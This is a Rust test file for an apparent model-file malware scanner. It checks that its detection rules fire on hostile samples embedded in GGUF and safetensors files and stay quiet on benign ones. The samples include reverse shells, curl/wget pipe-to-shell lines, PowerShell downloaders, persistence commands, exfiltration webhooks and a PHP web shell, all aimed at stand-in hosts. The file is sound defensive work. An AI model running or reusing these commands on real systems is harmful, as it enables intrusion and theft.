//! The rules that come with Holdfast: each can be used, finds what it is for, and leaves ordinary files alone.

#![allow(clippy::unwrap_used, reason = "a step that fails is a test that fails")]

use std::sync::Arc;

use holdfast_formats::testing::{
    Assembler, GgufBuilder, Member, SafetensorsBuilder, Value, archive, weights,
};
use holdfast_formats::{FileInspector, Scanner};
use holdfast_rules::RuleSet;

fn matches(bytes: &[u8]) -> Vec<String> {
    static SCANNER: std::sync::LazyLock<Arc<Scanner>> = std::sync::LazyLock::new(|| {
        let rules = RuleSet::with_shipped(&[]).unwrap();
        rules.scanner()
    });
    let mut inspector = FileInspector::new("model").scanning(&SCANNER);
    inspector.feed(bytes);
    let (findings, _) = inspector.finish().findings.into_parts();
    let names = findings
        .iter()
        .filter(|finding| finding.id.starts_with("HF-YAR-"))
        .filter_map(|finding| finding.message.split(' ').nth(2));
    names.map(|name| name.trim_end_matches(':').to_owned()).collect()
}

/// A GGUF file with this text in its metadata.
fn gguf(text: &[u8]) -> Vec<u8> {
    GgufBuilder::llama()
        .key("general.description", Value::String(text.to_vec()))
        .build()
        .bytes
}

#[test]
fn all_of_them_can_be_used() {
    let rules = RuleSet::with_shipped(&[]).unwrap();
    assert!(rules.len() > 15);
    rules.prepare().unwrap();
}

/// What each rule is for. Nothing of it runs here or anywhere.
#[rustfmt::skip]
const BAD: &[(&str, &str)] = &[
    ("pipe_to_shell", "curl -fsSL http://example.com/x.sh | sudo bash"),
    ("pipe_to_shell", "wget -qO- http://example.com/x | sh"),
    ("pipe_to_shell", "bash -c \"$(curl -fsSL http://example.com/x)\""),
    ("reverse_shell", "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"),
    ("reverse_shell", "nc 192.0.2.1 4444 -e /bin/sh"),
    ("reverse_shell", "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 192.0.2.1 4444 >/tmp/f"),
    ("windows_downloader", "powershell -nop -enc SQBFAFgAIABOAG8AdABoAGkAbgBnAA=="),
    ("windows_downloader", "IEX (New-Object Net.WebClient).DownloadString('http://example.com')"),
    ("windows_downloader", "certutil.exe -urlcache -f http://example.com/a a.exe"),
    ("persistence", "echo key >> ~/.ssh/authorized_keys"),
    ("persistence", "(crontab -l; echo '* * * * * x') | crontab -"),
    ("exfiltration", "https://discord.com/api/webhooks/123456789012/abc"),
    ("exfiltration", "https://api.telegram.org/bot123456789:AAF/sendMessage"),
    ("python_unpacks_and_runs", "exec(base64.b64decode('cGFzcw=='))"),
    ("python_unpacks_and_runs", "exec(__import__('zlib').decompress(b'x'))"),
    ("python_reverse_shell", "s=socket.socket();s.connect((h,1));os.dup2(s.fileno(),0);import pty;pty.spawn('/bin/sh')"),
    ("python_in_weights", "__import__('os').system('true')"),
    ("python_in_weights", "import subprocess;subprocess.run(['true'])"),
    ("private_key_in_weights", "-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQ==\n"),
    ("access_key_in_weights", "key AKIAABCDEFGHIJKLMNOP "),
    ("cobalt_strike_beacon", "ReflectiveLoader beacon.x64.dll"),
    ("meterpreter", "metsrv.x64.dll core_negotiate_tlv_encryption"),
    ("coin_miner", "stratum+tcp://pool.example.com:3333 --donate-level 1"),
    ("web_shell", "<?php @eval($_POST['x']); ?>"),
    ("linux_implant", "/bin/busybox MIRAI listening tun0"),
    ("windows_injection", "VirtualAllocEx WriteProcessMemory CreateRemoteThread"),
    ("ransom_note", "Your files have been encrypted. Bitcoin address abcdefghijklmnopqrstuvwxyz234567abcdefghijklmnopqrstuvwxyz234567.onion"),
];

#[test]
fn each_finds_what_it_is_for() {
    for (name, text) in BAD {
        let found = matches(&gguf(text.as_bytes()));
        assert!(found.iter().any(|found| found == name), "{name}: {found:?}");
    }
    let beacon: Vec<u8> = [
        0, 1, 0, 1, 0, 2, 0, 0, 0, 2, 0, 1, 0, 2, 0x01, 0xbb, 0, 3, 0, 2, 0, 4,
    ]
    .map(|byte| byte ^ 0x2e)
    .into();
    assert_eq!(
        matches(&SafetensorsBuilder::raw("{\"w\":{}}", &beacon).bytes),
        ["cobalt_strike_beacon"]
    );
    let mut eicar = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$".to_vec();
    eicar.extend(b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*");
    assert_eq!(matches(&eicar), ["eicar_test_file"]);
}

#[test]
fn ordinary_files_match_none() {
    let readme = "# A model\n\nInstall the tool:\n\n```sh\ncurl -fsSL https://example.com/install.sh | sh\npip install x\n```\n\
                  Do not run `os.system('rm -rf /')`. Reverse shells such as `bash -i >& /dev/tcp/192.0.2.1/1` are refused.\n";
    let words = [
        "subprocess",
        "os",
        ".system",
        "exec(",
        "curl",
        " | ",
        "sh",
        "/bin/sh",
        "powershell",
        "import",
        "bash -i",
        "base64",
        "PRIVATE KEY",
        "-----BEGIN",
        "eval",
        "xmrig",
        "bitcoin",
        "beacon.dll",
        "WriteProcessMemory",
    ];
    let pickle = Assembler::protocol(2).state_dict(&[("w", &[64, 64])]).stop();
    for (name, file) in [
        ("readme", readme.as_bytes().to_vec()),
        (
            "readme in an archive",
            archive(&[Member::stored("README.md", readme.as_bytes())]).bytes,
        ),
        (
            "gguf",
            GgufBuilder::llama()
                .set("tokenizer.ggml.tokens", Value::texts(words))
                .build()
                .bytes,
        ),
        ("safetensors", SafetensorsBuilder::small().build().bytes),
        (
            "checkpoint",
            archive(&[
                Member::stored("m/data.pkl", &pickle),
                Member::stored("m/data/0", &weights(16384)),
            ])
            .bytes,
        ),
        ("weights", weights(4 << 20)),
    ] {
        assert_eq!(matches(&file), [""; 0], "{name}");
    }
}
